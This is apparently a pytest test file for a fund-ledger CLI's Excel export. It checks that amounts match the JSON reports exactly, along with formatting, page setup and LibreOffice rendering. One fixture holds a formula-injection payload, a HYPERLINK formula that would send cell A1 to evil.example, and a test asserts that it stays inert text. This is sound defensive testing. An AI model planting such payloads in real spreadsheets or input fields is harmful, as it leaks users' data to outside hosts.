"""xlsx fit to file: read back with openpyxl, the numbers equal the JSON reports to the 分.

cli.md "The office's daily work": widths fit the content, amounts are numbers in
``#,##0.00``, a title block, a frozen header, a totals row, A4 landscape fitted
to the page width; ``report all`` writes one workbook with a sheet per report.
The last test has LibreOffice print a workbook to PDF and looks for ``###``.
"""

from __future__ import annotations

from decimal import Decimal

import pytest

from cli import sheets
from cli.labels import REPORT_HEADERS, REPORT_TITLES, header
from cli.output import width
from cli.reports import COLUMNS
from ledger.money import format_grouped
from tests.e2e.driver import Cli, awarded, describe, standard_world
from tests.helpers import HOSPITAL, header_row, printed_by_libreoffice, read_sheet

COMMON_TECH = "qd2024-01-common-tech"
EQUITY = "qd2024-22-equity"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


@pytest.fixture
def office(sqlite_url) -> Cli:
    cli = standard_world(Cli(sqlite_url))
    cli.ok("unit", "register", HOSPITAL, "--name", EVIL, "--type", "hospital")
    awarded(cli, "QD-2024-001", COMMON_TECH, "500万")
    cli.ok("disburse", "QD-2024-001", "--amount", "1,234,567.89", "--voucher", "PZ-1", "--date", "2024-09-02")
    awarded(cli, "QD-2024-002", COMMON_TECH, "3万", unit=HOSPITAL)
    cli.ok("disburse", "QD-2024-002", "--amount", "0.01", "--voucher", "PZ-2", "--date", "2024-09-03")
    awarded(cli, "QD-2024-003", EQUITY, "800万", fund="TZ", extra=("--mode", "equity"))
    cli.ok(
        "invest",
        *("QD-2024-003", "--amount", "300万", "--stake", "5.25", "--valuation", "1亿"),
        *("--voucher", "TZ-1", "--date", "2024-09-04"),
    )
    cli.ok("approve", "TZ-1", "--date", "2024-09-05", actor="approver")
    return cli


def write_all(cli: Cli, tmp_path, *args: str):
    from openpyxl import load_workbook

    out = tmp_path / "all.xlsx"
    result = cli("report", "all", *args, "--format", "xlsx", "--out", str(out), fmt="table")
    assert result.exit_code == 0 and result.stdout == "", describe(result)
    return out, load_workbook(out)


def test_report_all_writes_one_sheet_per_report_whose_numbers_equal_the_json_reports_to_the_fen(office, tmp_path):
    from projections.reports import MONEY

    _, book = write_all(office, tmp_path, "--year", "2024")
    assert book.sheetnames == [REPORT_TITLES[name] for name in COLUMNS]
    for name in COLUMNS:
        reported = office.ok("report", name, "--year", "2024")
        headers, rows, totals = read_sheet(book[REPORT_TITLES[name]])
        assert len(rows) == len(reported), name
        for column in MONEY[name]:
            at = headers.index(REPORT_HEADERS.get(name, {}).get(column, header(column)))  # the report's own
            for cell, row in zip(rows, reported, strict=True):
                assert isinstance(cell[at], (int, float, Decimal)), (name, column, cell[at])
                assert Decimal(str(cell[at])).quantize(Decimal("0.01")) == Decimal(row[column]), (name, column)
            if totals is not None and totals[at] is not None:
                assert Decimal(str(totals[at])).quantize(Decimal("0.01")) == sum(Decimal(r[column]) for r in reported)


def test_every_sheet_has_a_title_block_a_frozen_header_and_prints_on_a4_landscape_one_page_wide(office, tmp_path):
    _, book = write_all(office, tmp_path, "--year", "2024", "--as-of", "2024-12-31")
    for name in COLUMNS:
        sheet = book[REPORT_TITLES[name]]
        title, filters, made = (sheet.cell(row=r, column=1).value for r in (1, 2, 3))
        assert title == REPORT_TITLES[name]
        assert "年度: 2024" in filters and "截至: 2024-12-31" in filters and "单位: 元" in filters
        assert "制表时间:" in made and "制表人: admin" in made
        at = header_row(sheet)
        assert sheet.freeze_panes == f"A{at + 1}"
        assert sheet.print_title_rows.replace("$", "") == f"{at}:{at}"  # the header repeats on every page
        setup = sheet.page_setup
        assert (setup.orientation, str(setup.paperSize), setup.fitToWidth, setup.fitToHeight) == (
            "landscape",
            "9",
            1,
            0,
        )
        assert sheet.sheet_properties.pageSetUpPr.fitToPage


def test_awards_sheet_totals_add_up_from_fen_and_amounts_use_thousands_separators(office, tmp_path):
    _, book = write_all(office, tmp_path)
    headers, _rows, totals = read_sheet(book[REPORT_TITLES["awards"]])
    reported = office.ok("report", "awards")
    for column in ("awarded", "disbursed", "available"):
        at = headers.index(header(column))
        assert Decimal(str(totals[at])) == sum(Decimal(r[column]) for r in reported)
    sheet = book[REPORT_TITLES["awards"]]
    at = header_row(sheet)
    money = headers.index(header("awarded")) + 1
    assert {sheet.cell(row=r, column=money).number_format for r in range(at + 1, sheet.max_row + 1)} == {"#,##0.00"}


def test_columns_are_wide_enough_for_what_they_show_counting_cjk_double(office, tmp_path):
    from openpyxl.utils import get_column_letter

    _, book = write_all(office, tmp_path)
    for sheet in book.worksheets:
        at = header_row(sheet)
        for index in range(1, sheet.max_column + 1):
            shown = []
            for (cell,) in sheet.iter_rows(min_row=at, min_col=index, max_col=index):
                value = cell.value
                if isinstance(value, (int, float, Decimal)) and cell.number_format == "#,##0.00":
                    shown.append(format_grouped(int(Decimal(str(value)) * 100)))
                elif value is not None:
                    shown.append(str(value))
            needed = max(map(width, shown), default=0)
            assert sheet.column_dimensions[get_column_letter(index)].width >= needed, (sheet.title, index, shown)


def test_enum_values_are_in_chinese_and_stakes_are_numbers(office, tmp_path):
    _, book = write_all(office, tmp_path)
    headers, rows, _ = read_sheet(book[REPORT_TITLES["equity"]])
    (row,) = rows
    stake = row[headers.index(header("stake"))]
    assert isinstance(stake, (int, float, Decimal)) and Decimal(str(stake)) == Decimal("5.25")
    assert row[headers.index(header("status"))] == "持有中"
    assert row[headers.index(header("mode"))] == "股权投资(拨改投)"
    headers, rows, _ = read_sheet(book[REPORT_TITLES["units"]])
    assert {"企业", "高校", "创投风投机构", "医疗机构"} == {r[headers.index(header("type"))] for r in rows}


def test_a_unit_named_like_a_formula_stays_text_and_the_amounts_stay_numbers(office, tmp_path):
    from openpyxl import load_workbook

    out, _ = write_all(office, tmp_path)
    book = load_workbook(out)  # data_type is what Excel will see: 'f' would be a live formula
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    headers, rows, _ = read_sheet(book[REPORT_TITLES["units"]])
    (evil,) = [r for r in rows if r[headers.index(header("unit"))] == HOSPITAL]
    assert evil[headers.index(header("name"))] == "'" + EVIL
    assert Decimal(str(evil[headers.index(header("disbursed"))])) == Decimal("0.01")


def test_report_all_needs_xlsx(office):
    _, code, message = office.refused("report", "all")
    assert code == "INVALID_INPUT" and "xlsx" in message


def test_amounts_in_wan_yuan_stay_exact_to_the_fen(tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "wan.xlsx"
    rows = [{"fund": "KJ", "appropriated": 123456789, "available": 1}]
    table = sheets.Table("专项资金预算执行表", rows, money=("appropriated", "available"))
    sheets.write(str(out), [table], sheets.Stamp(made_by="clerk", yuan_unit="万元"))
    sheet = load_workbook(out).active
    assert "单位: 万元" in sheet["A2"].value
    _headers, (row,), totals = read_sheet(sheet)
    assert Decimal(str(row[1])) == Decimal("123.456789") and Decimal(str(row[2])) == Decimal("0.000001")
    assert Decimal(str(totals[1])) == Decimal("123.456789")
    assert sheet.cell(row=header_row(sheet) + 1, column=2).number_format == "#,##0.00####"


def test_an_unknown_unit_of_money_is_refused(tmp_path):
    with pytest.raises(ValueError):
        sheets.write(str(tmp_path / "x.xlsx"), [], sheets.Stamp(made_by="clerk", yuan_unit="千元"))


def test_libreoffice_prints_the_workbook_without_any_hash_marks(office, tmp_path):
    """A real spreadsheet renders every cell: any too-narrow number would print as ###."""
    out, _ = write_all(office, tmp_path, "--year", "2024")
    text = printed_by_libreoffice(out, tmp_path)
    assert "###" not in text
    assert "项目批复与拨付明细表" in text and "试算平衡表" in text
    assert "1,234,567.89" in text and "5,000,000.00" in text and "100,000,000.00" in text
